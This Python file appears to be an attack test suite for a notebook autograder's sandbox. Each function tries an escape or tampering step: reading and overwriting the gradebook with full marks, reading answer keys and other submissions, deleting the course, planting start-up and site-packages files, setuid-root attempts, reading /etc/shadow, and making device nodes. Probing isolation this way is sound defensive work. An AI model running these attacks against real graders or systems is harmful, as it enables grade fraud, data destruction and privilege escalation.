"""Reading and changing what lies outside the work folder."""

from __future__ import annotations

from attacks.kinds import code
from attacks.tools import (
    COURSE,
    HOME_OUTSIDE,
    MARK,
    TEMP_OUTSIDE,
    each,
    everywhere,
    glob,
    libc,
    look,
    os,
    reached,
    socket,
    stat,
    sys,
)


@code("Reads the gradebook where the course lies.", outside=True)
def reads_the_gradebook() -> None:
    look(f"{COURSE}/gradebook.db")


@code("Climbs up from the work folder to the gradebook.", outside=True)
def climbs_to_the_gradebook() -> None:
    for depth in range(1, 12):
        look("../" * depth + "gradebook.db", *glob.glob("../" * depth + "manifests/*/*"))


@code("Writes full marks into the gradebook.")
def writes_the_gradebook() -> None:
    import sqlite3

    for path in (f"{COURSE}/gradebook.db", *everywhere("gradebook.db")):
        book = sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=1)
        book.execute("update grade set manual_score = 100")
        book.commit()
        reached(path)


@code("Reads the records of the release, with the keys.", outside=True)
def reads_the_manifests() -> None:
    look(f"{COURSE}/manifests", *everywhere("manifests"))


@code("Reads the solved notebook.", outside=True)
def reads_the_source() -> None:
    look(f"{COURSE}/source", *everywhere("source"))


@code("Reads what others handed in.", outside=True)
def reads_other_submissions() -> None:
    look(f"{COURSE}/submitted", f"{COURSE}/autograded", *everywhere("submitted"))


@code("Reads the table of right answers.", outside=True)
def reads_the_answers() -> None:
    look(f"{COURSE}/data/answers", *everywhere("answers", "option_keys.csv"))


@code("Reads the home folder of the grader.", outside=True)
def reads_the_home() -> None:
    look(HOME_OUTSIDE, os.path.expanduser("~"), "/root", "/home")


@code("Reads what others left in the folder for temporary files.", outside=True)
def reads_temporary_files() -> None:
    look(TEMP_OUTSIDE, "/var/tmp", "/tmp", "/run", "/dev/shm")


@code("Deletes the course.")
def deletes_the_course() -> None:
    import shutil

    shutil.rmtree(COURSE, ignore_errors=True)
    shutil.rmtree(HOME_OUTSIDE, ignore_errors=True)
    shutil.rmtree(TEMP_OUTSIDE, ignore_errors=True)


@code("Writes files wherever it may.")
def leaves_files_everywhere() -> None:
    here = os.getcwd().split("/")[1]
    for folder in ("/", "/tmp", "/var/tmp", "/dev/shm", "/etc", "/usr", "/opt", "/srv", "/run",
                   "/srm", COURSE, HOME_OUTSIDE, TEMP_OUTSIDE):  # fmt: skip
        try:
            with open(f"{folder}/{MARK}-file", "w") as file:
                file.write("x")
            if os.path.realpath(folder).split("/")[1] != here:
                reached(folder)
        except OSError as refusal:
            print(folder, refusal)


@code("Puts code into site-packages that every later Python runs.")
def writes_site_packages() -> None:
    import site

    for folder in (*site.getsitepackages(), site.getusersitepackages(), *sys.path):
        for name in ("sitecustomize.py", "usercustomize.py", f"{MARK}.pth"):
            try:
                with open(f"{folder}/{name}", "a") as file:
                    file.write(f"\n# {MARK}")
                print(folder)
            except OSError as refusal:
                print(refusal.strerror)


@code("Puts start-up files of IPython and Jupyter into the home folder.")
def writes_start_up_files() -> None:
    for home in (os.path.expanduser("~"), HOME_OUTSIDE, "/root"):
        for name in (".ipython/profile_default/startup", ".jupyter", ".config/matplotlib",
                     ".local/share/jupyter/kernels/python3"):  # fmt: skip
            try:
                os.makedirs(f"{home}/{name}", exist_ok=True)
                with open(f"{home}/{name}/{MARK}.py", "w") as file:
                    file.write("raise SystemExit")
            except OSError as refusal:
                print(refusal.strerror)


@code("Changes the package that hands in and scores.")
def writes_the_package() -> None:
    import shared_responsibility

    for folder in (*shared_responsibility.__path__, *everywhere("shared_responsibility")):
        for name in ("__init__.py", "scoring.py", "answers/handing_in.py", "grading/marking.py"):
            try:
                with open(f"{folder}/{name}", "a") as file:
                    file.write(f"\n# {MARK}")
                reached(name)
            except OSError as refusal:
                print(refusal.strerror)


@code("Goes out through the root and work folders of other processes.", outside=True)
def through_process_folders() -> None:
    # The youngest first: those who grade. A busy machine has more than time allows to read.
    for pid in sorted(filter(str.isdigit, os.listdir("/proc")), key=int, reverse=True):
        for way in ("cwd", f"root{COURSE}", f"root{HOME_OUTSIDE}", f"root{TEMP_OUTSIDE}"):
            look(f"/proc/{pid}/{way}/gradebook.db", f"/proc/{pid}/{way}", most=200)


@code("Reads through every descriptor that was left open.", outside=True)
def through_open_descriptors() -> None:
    for number in range(300):
        try:
            if stat.S_ISDIR(os.fstat(number).st_mode):
                reached(f"a folder by descriptor: {os.listdir(number)[:5]}")
            look(f"/proc/self/fd/{number}")
        except OSError:
            continue


@code("Opens files by their number on the disk.")
def opens_by_number() -> None:
    handle = (b"\x08\x00\x00\x00\x01\x00\x00\x00" + bytes(8))[:16]
    for number in range(300):
        if libc.syscall(304, number, handle, 0) >= 0:
            reached("a file by its number")


@code("Mounts things and makes namespaces of its own.")
def mounts_and_namespaces() -> None:
    for flags in (0x20000, 0x10000000, 0x40000000, 0x10020000, 0x2000000, 0x20000000):
        if libc.unshare(flags) == 0:
            reached(f"a namespace {flags:#x}")
    for kind in (b"tmpfs", b"proc", b"overlay"):
        if libc.mount(b"none", b"/tmp", kind, 0, None) == 0:
            reached("a mount")
    if libc.chroot(b".") == 0:
        reached("a root of its own")


@code("Becomes another user.")
def becomes_root() -> None:
    each([lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([0])])
    if os.path.exists("/etc/shadow") and os.access("/etc/shadow", os.R_OK):
        reached("the passwords of the machine")


@code("Makes programs that run as their owner.")
def setuid_program() -> None:
    with open(f"{MARK}-program", "wb") as file, open("/bin/sh", "rb") as shell:
        file.write(shell.read())
    os.chmod(f"{MARK}-program", 0o6755)
    for path in ("/bin/su", "/usr/bin/sudo", "/usr/bin/newuidmap", "/usr/bin/mount"):
        if os.path.exists(path) and os.system(f"{path} -c id < /dev/null > /dev/null 2>&1") == 0:
            reached(path)


@code("Makes devices that lead to disks and memory.")
def makes_devices() -> None:
    for major, minor in ((8, 0), (259, 0), (254, 0), (1, 1), (1, 2)):
        try:
            os.mknod(f"{MARK}-{major}-{minor}", 0o600 | stat.S_IFBLK, os.makedev(major, minor))
            reached("a device")
        except OSError as refusal:
            print(refusal.strerror)


@code("Writes to the settings of the kernel.")
def writes_kernel_settings() -> None:
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/1/oom_score_adj",
                 "/sys/kernel/uevent_helper", "/sys/fs/cgroup/cgroup.procs", "/proc/1/exe",
                 "/proc/self/exe"):  # fmt: skip
        try:
            # Opening shows whether it may; nothing is written, should it succeed.
            os.close(os.open(path, os.O_WRONLY))
            reached(path)
        except OSError as refusal:
            print(path, refusal.strerror)


@code("Leaves links, pipes and sockets for whoever collects the work folder.")
def leaves_traps_in_the_work_folder() -> None:
    os.symlink(f"{COURSE}/gradebook.db", f"{MARK}-link")
    os.symlink("/", f"{MARK}-root")
    os.mkfifo(f"{MARK}-pipe")
    socket.socket(socket.AF_UNIX).bind(f"{MARK}-socket")
    os.symlink(f"{MARK}-loop", f"{MARK}-loop")


@code("Exchanges its own notebook for links to other files.")
def exchanges_its_notebook() -> None:
    for name in os.listdir("."):
        os.remove(name)
        os.symlink(f"{COURSE}/gradebook.db", name)
    os.symlink(f"{COURSE}/gradebook.db", "classify-scenarios.ipynb")
